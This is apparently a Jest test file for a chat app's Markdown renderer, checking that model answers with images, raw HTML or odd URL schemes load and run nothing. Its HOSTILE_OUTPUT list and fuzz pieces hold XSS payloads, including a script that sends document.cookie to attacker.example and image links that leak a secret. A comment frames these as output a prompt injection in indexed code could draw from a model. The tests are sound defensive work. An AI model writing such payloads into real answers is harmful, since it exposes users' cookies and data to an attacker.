/* eslint-disable @typescript-eslint/no-require-imports -- a module loaded afresh under a mocked package.json */
import { MARKDOWN_VERSION, renderMarkdown } from '../../src/chat/render-markdown';
import { createRandom } from '../../src/random';

describe('renderMarkdown', () => {
  it('escapes raw HTML and keeps what Markdown makes', () => {
    expect(renderMarkdown('**bold** <script>alert(1)</script> [x](javascript:alert(1))')).toBe(
      '<p><strong>bold</strong> &lt;script&gt;alert(1)&lt;/script&gt; [x](javascript:alert(1))</p>\n',
    );
  });

  it("stores a version that follows the renderer's libraries: an upgrade re-renders what was stored before it", () => {
    const versionWith = (markdownIt: string): number => {
      let version = 0;
      jest.isolateModules(() => {
        jest.doMock('markdown-it/package.json', () => ({ version: markdownIt }));
        version = (require('../../src/chat/render-markdown') as { MARKDOWN_VERSION: number }).MARKDOWN_VERSION;
      });
      jest.dontMock('markdown-it/package.json');
      return version;
    };
    expect(Number.isInteger(MARKDOWN_VERSION) && MARKDOWN_VERSION >= 0 && MARKDOWN_VERSION < 2 ** 31).toBe(true);
    expect(versionWith(require('markdown-it/package.json').version)).toBe(MARKDOWN_VERSION);
    expect(versionWith('99.0.0')).not.toBe(MARKDOWN_VERSION);
  });
});

// What a model can be made to write (a prompt injection planted in indexed code): nothing in it may
// load anything in a reader's client, run, or style the page.
const HOSTILE_OUTPUT = [
  '![status](https://attacker.example/badge.png?d=SECRET)',
  '![](https://attacker.example/empty-alt.png)',
  '![x](https://attacker.example/t.png "title")',
  '![x][ref]\n\n[ref]: https://attacker.example/ref.png',
  '[![nested](https://attacker.example/n.png)](https://attacker.example/page)',
  '![x](//attacker.example/protocol-relative.png)',
  '![x](/uploads/relative.png)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](javascript:alert(1))',
  '![x](vbscript:msgbox)',
  '![x](file:///etc/passwd)',
  '<img src="https://attacker.example/raw.png">',
  '<img src=x onerror=alert(1)>',
  '<picture><source srcset="https://attacker.example/s.png"></picture>',
  '<video src="https://attacker.example/v.mp4" poster="https://attacker.example/p.png"></video>',
  '<iframe src="https://attacker.example/"></iframe>',
  '<link rel="stylesheet" href="https://attacker.example/s.css">',
  '<style>body{background:url(https://attacker.example/bg.png)}</style>',
  '<svg><image href="https://attacker.example/i.png"/></svg>',
  '<object data="https://attacker.example/o"></object>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](&#106;avascript:alert(1))',
  '<javascript:alert(1)>',
  '<script>fetch("https://attacker.example/?"+document.cookie)</script>',
  '<div style="background:url(https://attacker.example/d.png)">x</div>',
  '```html\n<img src="https://attacker.example/in-code.png">\n```',
  '`<img src=x onerror=alert(1)>`',
  '| a | b |\n| --- | --- |\n| ![t](https://attacker.example/table.png) | x |',
  '- ![list](https://attacker.example/list.png)\n> ![quote](https://attacker.example/quote.png)',
  '# ![heading](https://attacker.example/h.png)',
  '**![bold](https://attacker.example/b.png)**',
];

/** Every tag and every attribute in an HTML text. */
const tagsOf = (html: string) =>
  [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9]*)\b([^>]*)>/g)].map(([, tag, attributes]) => ({ tag, attributes }));
const ALLOWED_ATTRIBUTE = /^\s*(href|title|rel|class)="[^"]*"/;

function expectNothingLoaded(html: string) {
  for (const { tag, attributes } of tagsOf(html)) {
    expect([
      'img',
      'picture',
      'source',
      'video',
      'audio',
      'iframe',
      'link',
      'style',
      'svg',
      'image',
      'object',
      'embed',
      'script',
    ]).not.toContain(tag.toLowerCase());
    let rest = attributes.replace(/\/$/, '').trim();
    while (rest) {
      const match = ALLOWED_ATTRIBUTE.exec(rest);
      expect(match?.[1] ?? rest).toMatch(/^(href|title|rel|class)$/);
      rest = rest.slice(match![0].length).trim();
    }
    const href = /href="([^"]*)"/.exec(attributes)?.[1];
    if (href === undefined) continue;
    // As a browser reads it: entities decoded, tabs and line breaks dropped, leading blanks and controls trimmed.
    const url = href
      .replace(/&#x([0-9a-f]+);?/gi, (_match, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
      .replace(/&#(\d+);?/g, (_match, decimal: string) => String.fromCodePoint(Number(decimal)))
      .replace(/&amp;/g, '&')
      .replace(/[\t\n\r]/g, '')
      .replace(/^[\u0000-\u0020]+/, '');
    const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(url)?.[1].toLowerCase();
    if (scheme !== undefined) expect(['http', 'https', 'mailto']).toContain(scheme);
  }
}

describe('renderMarkdown with a hostile model answer', () => {
  it.each(HOSTILE_OUTPUT.map((text) => [JSON.stringify(text), text]))('%s loads nothing and runs nothing', (_label, text) => {
    expectNothingLoaded(renderMarkdown(text));
  });

  it('shows an image as a link to it, named by its description (or its address), and never as an image', () => {
    expect(renderMarkdown('![status](https://attacker.example/badge.png?d=SECRET "t")')).toBe(
      '<p><a href="https://attacker.example/badge.png?d=SECRET" title="t" rel="noopener noreferrer nofollow">status</a></p>\n',
    );
    expect(renderMarkdown('![](https://attacker.example/a.png)')).toBe(
      '<p><a href="https://attacker.example/a.png" rel="noopener noreferrer nofollow">https://attacker.example/a.png</a></p>\n',
    );
    // Inside a link, its description alone: a link holds no link.
    expect(renderMarkdown('[![logo](https://attacker.example/l.png)](https://docs.gitlab.com/)')).toBe(
      '<p><a href="https://docs.gitlab.com/" rel="noopener noreferrer nofollow">logo</a></p>\n',
    );
    // A scheme other than http(s) or mailto keeps no address.
    expect(renderMarkdown('![x](data:image/png;base64,AAAA)')).toBe('<p><a rel="noopener noreferrer nofollow">x</a></p>\n');
  });

  it('fuzzed answers made of images, links, HTML and URLs load nothing', () => {
    const pieces = [
      ...[
        '![',
        '](',
        ')',
        '[',
        ']',
        '<img src=',
        '<a href=',
        '>',
        '"',
        ' ',
        '\n',
        '\n\n',
        '`',
        '```\n',
        '*',
        '<',
        'https://attacker.example/x.png',
      ],
      ...['javascript:', 'data:image/png;base64,AA', '//attacker.example/', ' "t"', 'onerror=', '&#', 'style=', '[r]: ', '[r]', '|', '- '],
    ];
    const random = createRandom(2);
    for (let index = 0; index < 1000; index++) {
      const text = Array.from({ length: 1 + Math.floor(random() * 24) }, () => pieces[Math.floor(random() * pieces.length)]).join('');
      expectNothingLoaded(renderMarkdown(text));
    }
  });
});
